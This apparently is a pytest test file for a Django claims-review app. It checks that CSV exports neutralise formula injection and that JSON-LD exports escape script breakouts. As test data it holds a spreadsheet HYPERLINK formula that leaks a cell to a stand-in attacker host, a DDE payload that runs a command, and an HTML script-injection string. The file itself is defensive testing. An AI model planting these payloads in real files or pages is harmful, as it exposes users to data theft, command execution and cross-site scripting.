"""Exports that a spreadsheet or a publisher's page opens cannot carry live formulas or a script breakout."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from claims_app.review import services
from claims_app.web.spreadsheet import neutralise_cell
from tests.factories import ClaimFactory, SpeakerFactory


def body(response) -> bytes:  # type: ignore[no-untyped-def]
    return b"".join(response.streaming_content)


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Mayor = boss", "Mayor = boss"),
        ("", ""),
        (-5, -5),
        (12, 12),
    ],
)
def test_cells_that_start_like_a_formula_get_a_leading_quote(value, expected):
    assert neutralise_cell(value) == expected


@pytest.mark.django_db
def test_csv_export_writes_no_live_formula_from_titles_claims_speakers_or_outlets(viewer_client):
    speaker = SpeakerFactory(name="@evil speaker")
    ClaimFactory(
        text='=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
        speaker=speaker,
        article__title="+cmd|' /C calc'!A0",
        article__outlet="-2+3",
    )
    rows = list(csv.DictReader(io.StringIO(body(viewer_client.get(reverse("claims_app:claim_export_csv"))).decode())))
    [row] = rows
    for column in ("text", "speaker", "article_title", "outlet"):
        assert row[column].startswith("'"), (column, row[column])
    assert row["text"] == '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    assert row["id"].isdigit()


@pytest.mark.django_db
def test_claimreview_jsonld_escapes_script_breakout_as_json_script_does(editor, viewer_client):
    claim = ClaimFactory(text='He said </script><script>alert("x")</script> & left <!--')
    services.change_claim_status(claim=claim, user=editor, status="false")
    text = body(viewer_client.get(reverse("claims_app:claim_export_jsonld"))).decode()
    assert "</script>" not in text and "<" not in text and ">" not in text and "&" not in text
    assert "\\u003C/script\\u003E" in text and "\\u0026" in text
    [review] = json.loads(text)["@graph"]
    assert review["claimReviewed"] == claim.text  # still the same text to a JSON parser
